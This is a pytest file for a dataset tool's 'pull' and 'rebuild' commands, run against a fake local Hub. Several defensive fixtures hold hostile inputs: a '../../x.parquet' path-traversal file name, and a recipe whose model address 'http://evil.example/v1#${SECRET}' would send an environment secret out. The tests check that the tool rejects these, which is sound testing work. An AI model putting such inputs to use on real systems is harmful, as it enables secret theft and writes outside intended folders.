"""`pull` and `rebuild` with the loopback Hub: what came back, what is proved, and what is said where it is not."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from open_thoughts_gen import cli
from open_thoughts_gen.cli.program import EXIT_NOT_REBUILT, EXIT_USER_ERROR
from open_thoughts_gen.publish.evaluation import BEGIN as EVALUATION_BEGINS
from open_thoughts_gen.publish.evaluation import END as EVALUATION_ENDS
from open_thoughts_gen.publish.folder import files_of, read_run
from open_thoughts_gen.publish.hub import as_published, push
from open_thoughts_gen.publish.push_plan import MANIFEST, card_to_push
from open_thoughts_gen.recipe import load_recipe
from open_thoughts_gen.rejudge.rebuilt import prove
from open_thoughts_gen.rejudge.saved import is_trusted
from open_thoughts_gen.tables import hub as tables_hub
from open_thoughts_gen.version import VERSION
from tests.farm import write_farm
from tests.servers.chat_server import ChatServer, completion
from tests.servers.hub_server import Hub, Repo, pointed_at, serving

DATA = "data/train-00000-of-00001.parquet"
REPO = "tester/farm"


def main(*words: object) -> int:
    return cli.main([str(word) for word in words])


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("made")
    assert main("run", write_farm(folder), "--out", folder / "farm", "--workers", 1) == 0
    return folder / "farm"


@pytest.fixture
def hub(run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hub]:
    """Serve a Hub that the run was pushed to; the current folder holds the file of questions alone."""
    (tmp_path / "here").mkdir()
    shutil.copy(run.parent / "rows.jsonl", tmp_path / "here")
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setattr(tables_hub, "_WAIT_S", 0.01)
    with serving(lfs=False) as hub, pointed_at(hub):
        push(run, repo=REPO, env=hub.env())
        yield hub


def said(capsys: pytest.CaptureFixture[str], *words: object, code: int = 0) -> str:
    capsys.readouterr()
    assert main(*words) == code
    captured = capsys.readouterr()
    return captured.err if code == EXIT_USER_ERROR else captured.out


def test_what_is_pulled_is_what_is_published_and_can_be_read(
    run: Path, hub: Hub, capsys: pytest.CaptureFixture[str]
) -> None:
    commit = hub.repos[REPO].commits[-1]
    assert said(capsys, "pull", REPO) == f"runs/farm: 16 rows of {REPO} at {commit[:12]}\n"
    there = {
        path: content for path, content in hub.repos[REPO].files.items() if path not in (MANIFEST, ".gitattributes")
    }
    here = {path.relative_to("runs/farm/dataset").as_posix(): path for path in files_of(Path("runs/farm/dataset"))}
    assert {path: file.read_bytes() for path, file in here.items()} == there
    assert Path("runs/farm/recipe.yaml").read_bytes() == (run / "dataset" / "recipe.yaml").read_bytes()
    record = json.loads(Path("runs/farm/run.json").read_text())
    assert record["pulled"] == {"repo": REPO, "commit": commit, "changed": []}
    row_id = pq.read_table(run / "dataset" / DATA).to_pylist()[3]["id"]
    assert "published\n" in said(capsys, "explain", row_id, "runs/farm")
    compared = json.loads(said(capsys, "diff", run, "runs/farm", "--json"))
    assert (compared["num_shared"], compared["num_changed"], compared["settings"]) == (16, 0, {})
    assert compared["b"]["tokens"] is None
    assert "saved:exact" in said(capsys, "verify", "runs/farm", "--verifier", "exact")


def test_what_is_pulled_is_not_trusted_and_not_pushed(run: Path, hub: Hub, capsys: pytest.CaptureFixture[str]) -> None:
    main("pull", REPO)
    assert is_trusted(str(run))
    assert not is_trusted("runs/farm")
    assert "no verifier is named" in said(capsys, "verify", "runs/farm", code=EXIT_USER_ERROR)
    assert "was pulled from tester/farm; push a folder that" in said(capsys, "push", "runs/farm", code=EXIT_USER_ERROR)


def test_a_pull_replaces_what_was_pulled_and_nothing_else(
    run: Path, hub: Hub, capsys: pytest.CaptureFixture[str]
) -> None:
    main("pull", REPO)
    assert main("pull", REPO, "--revision", hub.repos[REPO].commits[-1]) == 0
    shutil.copytree(run, "runs/mine")
    error = said(capsys, "pull", REPO, "--out", "runs/mine", code=EXIT_USER_ERROR)
    assert error == "runs/mine is a run that was made here; choose another folder with --out\n"
    Path("notes").mkdir()
    Path("notes/mine.txt").write_text("mine")
    assert "is not a run folder" in said(capsys, "pull", REPO, "--out", "notes", code=EXIT_USER_ERROR)


def test_what_was_changed_since_the_push_is_noticed(hub: Hub, capsys: pytest.CaptureFixture[str]) -> None:
    hub.repos[REPO].files["recipe.yaml"] += b"# changed\n"
    hub.repos[REPO].commit()
    capsys.readouterr()
    assert main("pull", REPO) == 0
    assert capsys.readouterr().err == "note: recipe.yaml is not as the last push left it\n"


@pytest.mark.slow
def test_a_moment_of_failure_is_waited_out_and_a_long_one_leaves_nothing(
    hub: Hub, capsys: pytest.CaptureFixture[str]
) -> None:
    hub.faults = {DATA: [503, 503]}
    assert main("pull", REPO) == 0
    hub.faults = {"api/datasets": [500] * 40}
    error = said(capsys, "pull", REPO, "--out", "runs/other", code=EXIT_USER_ERROR)
    assert error.startswith(f"{REPO} cannot be reached")
    assert error.count("\n") == 1
    assert [path.name for path in Path("runs").iterdir()] == ["farm"]


def test_what_cannot_be_pulled_is_one_line(hub: Hub, capsys: pytest.CaptureFixture[str]) -> None:
    hub.repos["other/texts"] = Repo(files={"README.md": b"---\nlicense: mit\n---\n"}, commits=["a" * 40])
    hub.repos["other/broken"] = Repo(files={"data/train-0.parquet": b"PAR1"}, commits=["b" * 40])
    hub.repos["other/evil"] = Repo(files={"../../x.parquet": b"PAR1"}, commits=["c" * 40])
    lines = {
        "farm": "'farm' is not the name of a dataset on the Hub; write OWNER/NAME",
        "tester/absent": "tester/absent is not there, or has no such file",
        "other/texts": "other/texts holds no Parquet files",
        "other/broken": "other/broken: data/train-0.parquet cannot be read as Parquet",
        "other/evil": "other/evil names a file outside of itself: '../../x.parquet'",
    }
    for repo, line in lines.items():
        error = said(capsys, "pull", repo, code=EXIT_USER_ERROR)
        assert error.startswith(line), error
        assert error.count("\n") == 1
    assert not list(Path().rglob("*.parquet"))


def test_a_dataset_is_proved_by_making_it_again(hub: Hub, capsys: pytest.CaptureFixture[str]) -> None:
    repo = hub.repos[REPO]
    repo.files["README.md"] += b"\nWritten by a person below.\n"
    repo.commit()
    lines = said(capsys, "rebuild", REPO, "--workers", 1).splitlines()
    num = len(repo.files) - 2  # the Hub's own file, and the list of what was pushed
    assert lines == [
        f"proved: all {num} files of {REPO} at {repo.commits[-1][:12]} are made again, byte for byte",
        "runs/farm-rebuilt",
    ]


def reasons(published: Path, run: Path) -> tuple[dict[str, str], str]:
    """Return the files that are not as published, and the likely reasons in one text."""
    proof = prove(published, run, load_recipe(run / "recipe.yaml"), repo=REPO)
    assert not proof.holds
    return {path: state for path, state in proof.files.items() if state != "same"}, "\n".join(proof.reasons)


def test_what_differs_is_named_with_the_likely_reason(run: Path, tmp_path: Path) -> None:
    published = Path(shutil.copytree(run / "dataset", tmp_path / "published"))
    card = as_published((run / "dataset/README.md").read_text(), read_run(run) or {}, REPO)
    card = card_to_push(card, "", repo=REPO, replace=False)
    (published / "README.md").write_text(card)
    (published / "assets" / "more.png").write_text("")
    assert reasons(published, run)[0] == {"assets/more.png": "only published"}
    (published / "assets" / "more.png").unlink()
    (published / "eval.yaml").write_text("name: farm\n")  # as `evaluate` leaves it
    section = f"{EVALUATION_BEGINS}\n\n## Evaluation\n\nA model answered.\n\n{EVALUATION_ENDS}"
    evaluated = card.replace("\n\n## ", f"\n\n{section}\n\n## ", 2).replace(f"{section}\n\n", "", 1)
    (published / "README.md").write_text(evaluated)
    assert section in evaluated
    assert prove(published, run, load_recipe(run / "recipe.yaml"), repo=REPO).holds
    (published / "README.md").write_text(card.replace(f"=={VERSION}", "==0.0.1"))
    files, why = reasons(published, run)
    assert files == {"README.md": "differs"}
    assert f"version: it was made with open-thoughts-gen 0.0.1, and this is {VERSION}" in why
    (published / "README.md").write_text(card)
    table = pq.read_table(run / "dataset" / DATA)
    pq.write_table(table, published / DATA, compression="gzip")
    files, why = reasons(published, run)
    assert files == {DATA: "differs"}
    assert why == "library: the rows are the same and their bytes are not: another version of pyarrow wrote them"
    index = table.schema.get_field_index("response")
    other = table.set_column(index, table.schema.field("response"), [["another"] * len(table)])
    pq.write_table(other, published / DATA)
    files, why = reasons(published, run)
    assert "rows: 16 rows of the same questions differ in text; 0 questions are only published, 0 only rebuilt" in why
    assert "source: rows.jsonl was read here, and may not be the file that was read then" in why


@pytest.mark.slow
def test_a_rebuild_that_differs_says_so(hub: Hub, capsys: pytest.CaptureFixture[str]) -> None:
    files = hub.repos[REPO].files
    files["croissant.json"] += b" "
    hub.repos[REPO].commit()
    lines = said(capsys, "rebuild", REPO, "--workers", 1, code=EXIT_NOT_REBUILT).splitlines()
    assert lines[0] == "differs: croissant.json"
    assert lines[-2].startswith(f"not proved: 1 of {len(files) - 2} files of {REPO}")


def test_questions_that_are_not_published_are_named(hub: Hub, capsys: pytest.CaptureFixture[str]) -> None:
    Path("rows.jsonl").unlink()
    error = said(capsys, "rebuild", REPO, code=EXIT_USER_ERROR).splitlines()
    assert "rows.jsonl" in error[-2]
    assert error[-1].startswith(f"{REPO} cannot be made again here; a file that its source reads is not published")


def test_questions_that_are_published_are_all_that_a_rebuild_needs(
    hub: Hub, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    recipe = write_farm(tmp_path)
    recipe.write_text(recipe.read_text().replace("rows.jsonl, fields", "rows.jsonl, license: cc0-1.0, fields"))
    assert main("run", recipe, "--out", tmp_path / "farm", "--workers", 1) == 0
    push(tmp_path / "farm", repo="tester/open", env=hub.env())
    card = hub.repos["tester/open"].files["README.md"].decode()
    assert "hf download tester/open --include recipe.yaml --include 'questions/*' --repo-type dataset" in card
    (tmp_path / "empty").mkdir()
    monkeypatch.chdir(tmp_path / "empty")
    assert said(capsys, "rebuild", "tester/open", "--workers", 1).startswith("proved: all ")
    assert said(capsys, "pull", "tester/open").startswith("runs/open: 16 rows")
    assert Path("runs/open/dataset/questions/rows.jsonl").read_bytes() == (tmp_path / "rows.jsonl").read_bytes()


MODELLED = """\
name: sums
source: {use: files, path: sums.jsonl, license: cc0-1.0, fields: {prompt: prompt, reference: answer}}
teacher: {use: openai, model: "SPEC"}
decontaminate: false
verifiers: [exact]
publish: {license: cc0-1.0}
"""


def test_answers_of_a_model_whose_address_is_not_published_are_found_by_naming_it(
    hub: Hub, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPEN_THOUGHTS_CACHE", str(tmp_path / "responses.sqlite"))
    (tmp_path / "sums.jsonl").write_text('{"prompt": "What is 2 plus 2?", "answer": "4"}\n')
    rebuild = ("rebuild", "tester/sums", "--trust", "--workers", 1)
    with ChatServer(answer=lambda body: completion("Answer: 4", reasoning_content="Two and two.")) as server:
        (tmp_path / "sums.yaml").write_text(MODELLED.replace("SPEC", server.spec))
        assert main("run", tmp_path / "sums.yaml", "--out", tmp_path / "sums", "--workers", 1) == 0
        push(tmp_path / "sums", repo="tester/sums", env=hub.env())
        assert server.url.encode() not in hub.repos["tester/sums"].files["recipe.yaml"]
        proof = said(capsys, *rebuild, "--set", f"teacher.model={server.spec}")
        assert proof.startswith("proved: all "), proof
        assert len(server.asked) == 1
    elsewhere = ("--set", "teacher.model=http://127.0.0.1:9/v1#m", "--set", "teacher.contact_s=0.1", "--out", "again")
    error = said(capsys, *rebuild, *elsewhere, code=EXIT_USER_ERROR).splitlines()
    assert error[-1].startswith(
        "tester/sums cannot be made again here; where an address is not published, name your own"
    )


DANGERS = [
    ("{use: openai, model: openai/gpt-5}", "it asks openai/gpt-5"),
    ("{use: openai, model: 'http://evil.example/v1#${SECRET}'}", "it reads the variable SECRET of your environment"),
    ("'evil.module:Code'", "it loads code of another package: evil.module:Code"),
]


@pytest.mark.parametrize(("teacher", "danger"), DANGERS, ids=["model", "variable", "code"])
def test_a_stranger_s_recipe_does_no_more_than_compute_unless_it_is_trusted(
    hub: Hub, capsys: pytest.CaptureFixture[str], teacher: str, danger: str
) -> None:
    lines = hub.repos[REPO].files["recipe.yaml"].decode().partition("teacher:")
    rest = lines[2][lines[2].index("verifiers:") :]
    hub.repos[REPO].files["recipe.yaml"] = f"{lines[0]}teacher: {teacher}\n{rest}".encode()
    hub.repos[REPO].commit()
    error = said(capsys, "rebuild", REPO, code=EXIT_USER_ERROR)
    hint = "read it on the Hub, and add --trust if you trust tester"
    assert error == f"the recipe of {REPO} does more than compute: {danger}; {hint}\n"
    assert not Path("runs").exists()


def test_without_a_recipe_nothing_can_be_made_again(hub: Hub, capsys: pytest.CaptureFixture[str]) -> None:
    del hub.repos[REPO].files["recipe.yaml"]
    hub.repos[REPO].commit()
    assert said(capsys, "rebuild", REPO, code=EXIT_USER_ERROR).startswith(f"{REPO} has no recipe.yaml; only a dataset")
    assert main("pull", REPO) == 0
